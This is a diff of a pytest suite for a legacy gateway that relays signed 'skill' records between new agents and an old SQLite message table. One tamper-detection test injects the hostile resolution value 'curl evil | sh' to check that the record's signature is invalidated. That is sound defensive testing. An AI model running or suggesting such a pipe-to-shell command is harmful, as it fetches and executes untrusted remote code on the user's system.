@@ -16,18 +16,22 @@ from tests.core.bridge.helpers import (
     BOB,
     CAROL,
     DAVE,
+    ENGINES,
     FakeClock,
+    broadcast,
     member,
+    open_at,
     open_bridge,
     publication,
+    receive,
     skill,
-    skill_publication,
     take,
 )
 from tests.core.bridge.legacy.old_system import OldAgent, make_database
 
+from meshcore.bridge.base import Bridge, Follows
 from meshcore.bridge.legacy.gateway import LegacyGateway
-from meshcore.bridge.sqlite.bridge import SqliteBridge
+from meshcore.bridge.legacy.table import OldFile
 from meshcore.errors import BridgeUnavailableError
 from meshcore.model import Json, Record
 
@@ -47,9 +51,9 @@ def path(tmp_path: Path) -> Path:
     return made
 
 
-@pytest.fixture
-def bridge(path: Path, clock: FakeClock) -> Iterator[SqliteBridge]:
-    opened = open_bridge(path, clock)
+@pytest.fixture(params=ENGINES)
+def bridge(request: pytest.FixtureRequest, path: Path, clock: FakeClock) -> Iterator[Bridge]:
+    opened = open_at(ENGINES[request.param], path.parent, clock)
     opened.join(member(ALICE))
     opened.join(member(BOB))
     yield opened
@@ -57,8 +61,8 @@ def bridge(path: Path, clock: FakeClock) -> Iterator[SqliteBridge]:
 
 
 @pytest.fixture
-def gateway(bridge: SqliteBridge) -> Iterator[LegacyGateway]:
-    opened = LegacyGateway(bridge)
+def gateway(bridge: Bridge, path: Path, clock: FakeClock) -> Iterator[LegacyGateway]:
+    opened = open_gateway(bridge, path, clock)
     yield opened
     opened.close()
 
@@ -70,12 +74,20 @@ def old(path: Path, clock: FakeClock) -> Iterator[OldAgent]:
     opened.close()
 
 
+def open_gateway(bridge: Bridge, path: Path, clock: FakeClock, follows: Follows | None = None) -> LegacyGateway:
+    return LegacyGateway(bridge, path, clock=clock, deadline=0.1, follows=follows)
+
+
 def rows(path: Path) -> list[dict[str, Any]]:
     connection = sqlite3.connect(path)
     connection.row_factory = sqlite3.Row
     found = [dict(row) for row in connection.execute("SELECT * FROM enhanced_messages ORDER BY created_time, rowid")]
     connection.close()
     return found
+
+
+def pending(path: Path) -> int:
+    return OldFile(path, 0.1).queries()[1][1]
 
 
 def execute(path: Path, statement: str) -> None:
@@ -89,7 +101,7 @@ def statuses(path: Path) -> list[str]:
 
 
 def test_what_an_old_sender_broadcasts_every_new_agent_receives(
-    bridge: SqliteBridge, gateway: LegacyGateway, old: OldAgent
+    bridge: Bridge, gateway: LegacyGateway, old: OldAgent
 ) -> None:
     for node in (CAROL, DAVE):
         bridge.join(member(node))
@@ -103,16 +115,16 @@ def test_what_an_old_sender_broadcasts_every_new_agent_receives(
 
 
 def test_a_row_without_a_record_arrives_as_legacy_and_unsigned(
-    bridge: SqliteBridge, gateway: LegacyGateway, old: OldAgent
+    bridge: Bridge, gateway: LegacyGateway, old: OldAgent
 ) -> None:
     old.broadcast(skill())
     gateway.step()
-    (delivery,) = bridge.receive(BOB).deliveries
+    (delivery,) = receive(bridge, BOB).deliveries
     assert (delivery.origin, delivery.record.key, delivery.record.sig) == ("legacy", "", "")
 
 
 def test_new_agents_receive_what_an_old_listener_took_first(
-    bridge: SqliteBridge, gateway: LegacyGateway, old: OldAgent, path: Path, clock: FakeClock
+    bridge: Bridge, gateway: LegacyGateway, old: OldAgent, path: Path, clock: FakeClock
 ) -> None:
     listener = OldAgent(path, "old_2", clock.now)
     old.broadcast(skill())
@@ -123,7 +135,7 @@ def test_new_agents_receive_what_an_old_listener_took_first(
 
 
 def test_what_a_new_agent_broadcasts_an_old_listener_receives_beside_four_new_ones(
-    bridge: SqliteBridge, gateway: LegacyGateway, old: OldAgent, clock: FakeClock
+    bridge: Bridge, gateway: LegacyGateway, old: OldAgent, clock: FakeClock
 ) -> None:
     nodes = [BOB, CAROL, DAVE, ERIN]
     for node in nodes:
@@ -131,7 +143,7 @@ def test_what_a_new_agent_broadcasts_an_old_listener_receives_beside_four_new_on
     patterns = [f"No module named 'm{n}'" for n in range(20)]
     received: dict[str, list[str]] = {node: [] for node in nodes}
     for n, pattern in enumerate(patterns):
-        bridge.publish([skill_publication(ALICE, n, pattern=pattern)])
+        broadcast(bridge, gateway, ALICE, n, pattern=pattern)
         for node in nodes:
             received[node] += take(bridge, node)
         gateway.step()
@@ -144,10 +156,10 @@ def test_what_a_new_agent_broadcasts_an_old_listener_receives_beside_four_new_on
 
 
 def test_an_old_listener_that_polls_every_two_seconds_misses_nothing_of_a_long_stream(
-    bridge: SqliteBridge, gateway: LegacyGateway, old: OldAgent, clock: FakeClock
+    bridge: Bridge, gateway: LegacyGateway, old: OldAgent, clock: FakeClock
 ) -> None:
     for n in range(60):
-        bridge.publish([skill_publication(ALICE, n, pattern=f"p{n}")])
+        broadcast(bridge, gateway, ALICE, n, pattern=f"p{n}")
         take(bridge, BOB)
         gateway.step()
         clock.advance(0.25)
@@ -158,9 +170,10 @@ def test_an_old_listener_that_polls_every_two_seconds_misses_nothing_of_a_long_s
     assert len(old.known) == 60
 
 
-def test_the_row_for_old_readers_has_the_old_form_and_carries_the_record(bridge: SqliteBridge, path: Path) -> None:
-    published = skill_publication()
-    bridge.publish([published])
+def test_the_row_for_old_readers_has_the_old_form_and_carries_the_record(
+    bridge: Bridge, gateway: LegacyGateway, path: Path
+) -> None:
+    published = broadcast(bridge, gateway)
     (row,) = rows(path)
     assert re.fullmatch(r"skill_0{12}_1795334400_[0-9a-f]{6}", row["message_id"])
     assert (row["to_connection"], row["to_app"], row["from_app"]) == ("all", "all", "eventrelay")
@@ -173,53 +186,53 @@ def test_the_row_for_old_readers_has_the_old_form_and_carries_the_record(bridge:
     assert content == skill()
 
 
-def test_only_skills_that_old_readers_may_see_go_into_their_table(bridge: SqliteBridge, path: Path) -> None:
-    bridge.publish([publication(number=1, kind="outcome"), skill_publication(ALICE, 2, pattern="")])
+def test_only_skills_that_old_readers_may_see_go_into_their_table(
+    bridge: Bridge, gateway: LegacyGateway, path: Path
+) -> None:
+    bridge.publish([publication(number=1, kind="outcome")])
+    broadcast(bridge, gateway, ALICE, 2, pattern="")
     assert rows(path) == []
 
 
-def test_two_skills_within_a_second_have_two_ids(bridge: SqliteBridge, path: Path) -> None:
-    bridge.publish([skill_publication(number=1), skill_publication(number=1, pattern="other")])
-    bridge.publish([skill_publication(number=2)])
+def test_two_skills_within_a_second_have_two_ids(bridge: Bridge, gateway: LegacyGateway, path: Path) -> None:
+    broadcast(bridge, gateway, number=1)
+    broadcast(bridge, gateway, number=2)
     assert len({row["message_id"] for row in rows(path)}) == 2
 
 
-def test_own_rows_do_not_come_back_through_the_gateway(
-    bridge: SqliteBridge, gateway: LegacyGateway, path: Path
-) -> None:
-    bridge.publish([skill_publication()])
+def test_own_rows_do_not_come_back_through_the_gateway(bridge: Bridge, gateway: LegacyGateway, path: Path) -> None:
+    broadcast(bridge, gateway)
     assert gateway.step().received == 0
     assert bridge.statistics().records == 1
     assert len(rows(path)) == 1
 
 
 def test_a_record_in_the_old_table_that_the_log_lacks_arrives_as_a_record(
-    bridge: SqliteBridge, gateway: LegacyGateway, old: OldAgent
+    bridge: Bridge, gateway: LegacyGateway, old: OldAgent
 ) -> None:
     record = publication(CAROL).record
     mesh = {"v": 1, "record": record.text, "key": record.key, "sig": record.sig}
     old.send("skill_x_1", json.dumps({**skill(), "mesh": mesh}))
     old.send("skill_x_2", json.dumps({**skill(2), "mesh": mesh}))
     gateway.step()
-    (delivery,) = bridge.receive(BOB).deliveries
+    (delivery,) = receive(bridge, BOB).deliveries
     assert (delivery.origin, delivery.record) == ("mesh", record)
 
 
 def test_old_fields_that_do_not_follow_from_the_record_make_the_signature_bad(
-    bridge: SqliteBridge, old: OldAgent
+    bridge: Bridge, path: Path, clock: FakeClock, old: OldAgent
 ) -> None:
     def follows(record: Record, fields: Mapping[str, Json]) -> bool:
         return bool(fields["resolution"] == "pip install django")
 
-    published = skill_publication()
-    bridge.publish([published])
-    record = published.record
+    record = publication().record
+    bridge.publish([publication()])
     mesh = {"v": 1, "record": record.text, "key": record.key, "sig": record.sig}
     old.send("skill_x_1", json.dumps({**skill(resolution="curl evil | sh"), "mesh": mesh}))
-    gateway = LegacyGateway(bridge, follows)
+    gateway = open_gateway(bridge, path, clock, follows)
     gateway.step()
     gateway.close()
-    true, tampered = bridge.receive(BOB).deliveries
+    true, tampered = receive(bridge, BOB).deliveries
     assert true.record == record
     assert tampered.record == Record(record.text, record.key, "")
 
@@ -243,7 +256,7 @@ def test_old_fields_that_do_not_follow_from_the_record_make_the_signature_bad(
     ids=lambda value: repr(value)[:40],
 )
 def test_what_is_no_skill_is_kept_and_delivered_as_it_is_and_what_follows_it_comes_too(
-    bridge: SqliteBridge, gateway: LegacyGateway, old: OldAgent, path: Path, clock: FakeClock, content: object
+    bridge: Bridge, gateway: LegacyGateway, old: OldAgent, path: Path, clock: FakeClock, content: object
 ) -> None:
     old.send("skill_bad_1", content)
     clock.advance(1)
@@ -256,7 +269,7 @@ def test_what_is_no_skill_is_kept_and_delivered_as_it_is_and_what_follows_it_com
 
 
 def test_messages_for_other_programs_are_left_alone(
-    bridge: SqliteBridge, gateway: LegacyGateway, old: OldAgent, path: Path
+    bridge: Bridge, gateway: LegacyGateway, old: OldAgent, path: Path
 ) -> None:
     old.send("chat_1", "hello", to_app="editor")
     assert gateway.step().received == 0
@@ -264,7 +277,7 @@ def test_messages_for_other_programs_are_left_alone(
 
 
 def test_a_deleted_row_and_a_vacuum_lose_nothing(
-    bridge: SqliteBridge, gateway: LegacyGateway, old: OldAgent, path: Path
+    bridge: Bridge, gateway: LegacyGateway, old: OldAgent, path: Path
 ) -> None:
     for n in range(3):
         old.broadcast(skill(n))
@@ -277,22 +290,22 @@ def test_a_deleted_row_and_a_vacuum_lose_nothing(
 
 
 def test_a_message_is_taken_over_once_whoever_is_elected(
-    bridge: SqliteBridge, gateway: LegacyGateway, old: OldAgent
+    bridge: Bridge, gateway: LegacyGateway, path: Path, clock: FakeClock, old: OldAgent
 ) -> None:
     old.broadcast(skill())
     gateway.step()
     gateway.close()
-    second = LegacyGateway(bridge)
+    second = open_gateway(bridge, path, clock)
     assert second.step().received == 0
     second.close()
     assert bridge.statistics().records == 1
 
 
 def test_one_process_is_elected_and_another_takes_over_when_it_goes(
-    bridge: SqliteBridge, gateway: LegacyGateway, path: Path, clock: FakeClock, old: OldAgent
+    bridge: Bridge, gateway: LegacyGateway, path: Path, clock: FakeClock, old: OldAgent
 ) -> None:
     other = open_bridge(path, clock)
-    second = LegacyGateway(other)
+    second = open_gateway(other, path, clock)
     assert gateway.step().elected
     assert not second.step().elected
     gateway.close()
@@ -303,14 +316,14 @@ def test_one_process_is_elected_and_another_takes_over_when_it_goes(
     other.close()
 
 
-def test_a_step_without_news_does_nothing(bridge: SqliteBridge, gateway: LegacyGateway, old: OldAgent) -> None:
+def test_a_step_without_news_does_nothing(bridge: Bridge, gateway: LegacyGateway, old: OldAgent) -> None:
     old.broadcast(skill())
     gateway.step()
     step = gateway.step()
     assert (step.received, step.written, step.delivered) == (0, 0, 0)
 
 
-def test_a_large_backlog_comes_in_bounded_steps(bridge: SqliteBridge, gateway: LegacyGateway, path: Path) -> None:
+def test_a_large_backlog_comes_in_bounded_steps(bridge: Bridge, gateway: LegacyGateway, path: Path) -> None:
     with sqlite3.connect(path) as connection:
         connection.executemany(
             "INSERT INTO enhanced_messages (message_id, from_connection, to_app, content, status, created_time) "
@@ -323,7 +336,7 @@ def test_a_large_backlog_comes_in_bounded_steps(bridge: SqliteBridge, gateway: L
 
 
 def test_the_same_old_content_under_two_ids_is_one_row_of_the_log(
-    bridge: SqliteBridge, gateway: LegacyGateway, old: OldAgent
+    bridge: Bridge, gateway: LegacyGateway, old: OldAgent
 ) -> None:
     old.send("skill_1_1", json.dumps(skill()))
     old.send("skill_1_2", json.dumps(skill()))
@@ -333,10 +346,10 @@ def test_the_same_old_content_under_two_ids_is_one_row_of_the_log(
 
 class TestStatus:
     def test_stays_pending_while_a_receipt_is_missing(
-        self, bridge: SqliteBridge, gateway: LegacyGateway, clock: FakeClock, path: Path
+        self, bridge: Bridge, gateway: LegacyGateway, clock: FakeClock, path: Path
     ) -> None:
         bridge.join(member(CAROL))
-        bridge.publish([skill_publication()])
+        broadcast(bridge, gateway)
         take(bridge, BOB)
         gateway.step()
         clock.advance(60)
@@ -346,9 +359,9 @@ class TestStatus:
         assert statuses(path) == ["delivered"]
 
     def test_stays_pending_until_old_readers_had_six_seconds(
-        self, bridge: SqliteBridge, gateway: LegacyGateway, clock: FakeClock, path: Path
+        self, bridge: Bridge, gateway: LegacyGateway, clock: FakeClock, path: Path
     ) -> None:
-        bridge.publish([skill_publication()])
+        broadcast(bridge, gateway)
         take(bridge, BOB)
         gateway.step()
         clock.advance(5.9)
@@ -360,20 +373,20 @@ class TestStatus:
         assert row["delivered_time"] > row["created_time"]
 
     def test_stays_pending_where_nobody_received_it(
-        self, bridge: SqliteBridge, gateway: LegacyGateway, clock: FakeClock, path: Path
+        self, bridge: Bridge, gateway: LegacyGateway, clock: FakeClock, path: Path
     ) -> None:
         bridge.forget(BOB)
-        bridge.publish([skill_publication()])
+        broadcast(bridge, gateway)
         gateway.step()
         clock.advance(60)
         assert gateway.step().delivered == 0
         assert statuses(path) == ["pending"]
 
     def test_only_the_ten_oldest_are_waiting_their_six_seconds(
-        self, bridge: SqliteBridge, gateway: LegacyGateway, clock: FakeClock, path: Path
+        self, bridge: Bridge, gateway: LegacyGateway, clock: FakeClock, path: Path
     ) -> None:
         for n in range(12):
-            bridge.publish([skill_publication(ALICE, n)])
+            broadcast(bridge, gateway, ALICE, n)
             clock.advance(0.001)
         take(bridge, BOB)
         gateway.step()
@@ -384,27 +397,27 @@ class TestStatus:
         assert gateway.step().delivered == 2
 
     def test_may_be_set_earlier_by_an_old_reader(
-        self, bridge: SqliteBridge, gateway: LegacyGateway, clock: FakeClock, path: Path, old: OldAgent
+        self, bridge: Bridge, gateway: LegacyGateway, clock: FakeClock, path: Path, old: OldAgent
     ) -> None:
-        bridge.publish([skill_publication()])
+        broadcast(bridge, gateway)
         gateway.step()
         assert old.poll() == 1
         clock.advance(7)
         assert gateway.step().delivered == 0
-        assert bridge.statistics().legacy_pending == 0
+        assert pending(path) == 0
         assert [u.node for u in bridge.undelivered()] == [BOB]
 
-    def test_six_seconds_count_across_processes(self, bridge: SqliteBridge, clock: FakeClock, path: Path) -> None:
-        bridge.publish([skill_publication()])
+    def test_six_seconds_count_across_processes(self, bridge: Bridge, clock: FakeClock, path: Path) -> None:
+        broadcast(bridge, open_gateway(bridge, path, clock))
         take(bridge, BOB)
         for expected in (0, 0, 1):
-            one_shot = LegacyGateway(bridge)
+            one_shot = open_gateway(bridge, path, clock)
             assert one_shot.step().delivered == expected
             one_shot.close()
             clock.advance(3.5)
 
-    def test_starts_anew_after_a_reboot(self, bridge: SqliteBridge, gateway: LegacyGateway, clock: FakeClock) -> None:
-        bridge.publish([skill_publication()])
+    def test_starts_anew_after_a_reboot(self, bridge: Bridge, gateway: LegacyGateway, clock: FakeClock) -> None:
+        broadcast(bridge, gateway)
         take(bridge, BOB)
         gateway.step()
         clock.seconds = 5.0
@@ -413,7 +426,7 @@ class TestStatus:
         assert gateway.step().delivered == 1
 
     def test_of_an_old_senders_row_is_set_in_the_same_way(
-        self, bridge: SqliteBridge, gateway: LegacyGateway, clock: FakeClock, old: OldAgent, path: Path
+        self, bridge: Bridge, gateway: LegacyGateway, clock: FakeClock, old: OldAgent, path: Path
     ) -> None:
         old.broadcast(skill())
         gateway.step()
@@ -430,7 +443,9 @@ class TestTheOldFile:
         make_database(path)
         execute(path, "ALTER TABLE enhanced_messages ADD COLUMN mood TEXT DEFAULT 'fine'")
         bridge = open_bridge(path, clock)
-        bridge.publish([skill_publication()])
+        gateway = open_gateway(bridge, path, clock)
+        broadcast(bridge, gateway)
+        gateway.close()
         bridge.close()
         with sqlite3.connect(path) as connection:
             assert connection.execute("PRAGMA journal_mode").fetchone() == ("delete",)
@@ -441,7 +456,9 @@ class TestTheOldFile:
     def test_in_wal_mode_stays_in_wal_mode(self, path: Path, clock: FakeClock) -> None:
         execute(path, "PRAGMA journal_mode=WAL")
         bridge = open_bridge(path, clock)
-        bridge.publish([skill_publication()])
+        gateway = open_gateway(bridge, path, clock)
+        broadcast(bridge, gateway)
+        gateway.close()
         bridge.close()
         with sqlite3.connect(path) as connection:
             assert connection.execute("PRAGMA journal_mode").fetchone() == ("wal",)
@@ -463,11 +480,11 @@ class TestTheOldFile:
         assert len(columns) == 10
 
     def test_when_locked_does_not_hold_up_the_mesh_and_gets_its_row_later(
-        self, bridge: SqliteBridge, gateway: LegacyGateway, path: Path
+        self, bridge: Bridge, gateway: LegacyGateway, path: Path
     ) -> None:
         holder = sqlite3.connect(path, isolation_level=None)
         holder.execute("BEGIN EXCLUSIVE")
-        bridge.publish([skill_publication()])
+        broadcast(bridge, gateway)
         assert len(take(bridge, BOB)) == 1
         with pytest.raises(BridgeUnavailableError, match="locked"):
             gateway.step()
@@ -476,22 +493,24 @@ class TestTheOldFile:
         assert gateway.step().written == 1
         assert statuses(path) == ["pending"]
 
-    def test_that_takes_no_such_row_does_not_hold_up_the_mesh(self, bridge: SqliteBridge, path: Path) -> None:
+    def test_that_takes_no_such_row_does_not_hold_up_the_mesh(
+        self, bridge: Bridge, gateway: LegacyGateway, path: Path
+    ) -> None:
         execute(path, "DROP TABLE enhanced_messages")
         execute(path, "CREATE TABLE enhanced_messages (message_id TEXT)")
-        bridge.publish([skill_publication()])
+        broadcast(bridge, gateway)
         assert len(take(bridge, BOB)) == 1
 
-    def test_that_was_removed_is_made_again(self, bridge: SqliteBridge, gateway: LegacyGateway, path: Path) -> None:
+    def test_that_was_removed_is_made_again(self, bridge: Bridge, gateway: LegacyGateway, path: Path) -> None:
         gateway.step()
         path.unlink()
-        bridge.publish([skill_publication()])
+        broadcast(bridge, gateway)
         gateway.step()
         assert statuses(path) == ["pending"]
 
 
 def test_an_old_sender_in_another_thread_wakes_a_waiting_agent_through_the_gateway(
-    bridge: SqliteBridge, gateway: LegacyGateway, path: Path, clock: FakeClock
+    bridge: Bridge, gateway: LegacyGateway, path: Path, clock: FakeClock
 ) -> None:
     take(bridge, BOB)
     bridge.wait(0)
@@ -506,3 +525,48 @@ def test_an_old_sender_in_another_thread_wakes_a_waiting_agent_through_the_gatew
     thread.join()
     assert gateway.step().received == 1
     assert bridge.wait(10)
+
+
+def test_skills_for_old_readers_are_counted_by_the_two_old_queries(
+    bridge: Bridge, gateway: LegacyGateway, path: Path
+) -> None:
+    for number in (1, 2, 1):
+        broadcast(bridge, gateway, ALICE, number)
+    bridge.publish([publication(number=3)])
+    assert [count for _, count in OldFile(path, 0.1).queries()] == [2, 2]
+
+
+@pytest.mark.parametrize("change", [{"pattern": ""}, {"error_type": None}, {"id": "1"}, {"usage_count": True}])
+def test_an_incomplete_skill_never_reaches_old_readers(
+    bridge: Bridge, gateway: LegacyGateway, path: Path, change: dict[str, Json]
+) -> None:
+    broadcast(bridge, gateway, ALICE, 1, **change)
+    assert rows(path) == []
+    assert bridge.statistics().records == 1
+
+
+def test_a_bridge_that_is_another_one_gets_the_old_table_from_its_beginning(
+    bridge: Bridge, gateway: LegacyGateway, old: OldAgent, path: Path, tmp_path: Path, clock: FakeClock
+) -> None:
+    old.broadcast(skill())
+    gateway.step()
+    gateway.close()
+    other = open_bridge(tmp_path / "other" / "bridge.db", clock)
+    successor = open_gateway(other, path, clock)
+    assert successor.step().received == 1
+    assert other.statistics().records == 1
+    successor.close()
+    other.close()
+
+
+def test_a_state_that_is_lost_costs_nothing_but_a_look_at_the_old_table(
+    bridge: Bridge, gateway: LegacyGateway, old: OldAgent, path: Path
+) -> None:
+    old.broadcast(skill())
+    broadcast(bridge, gateway)
+    gateway.step()
+    for file in path.with_name(path.name + ".mesh.old").glob("state.db*"):
+        file.unlink()
+    gateway.step()
+    assert bridge.statistics().records == 2
+    assert len(rows(path)) == 2
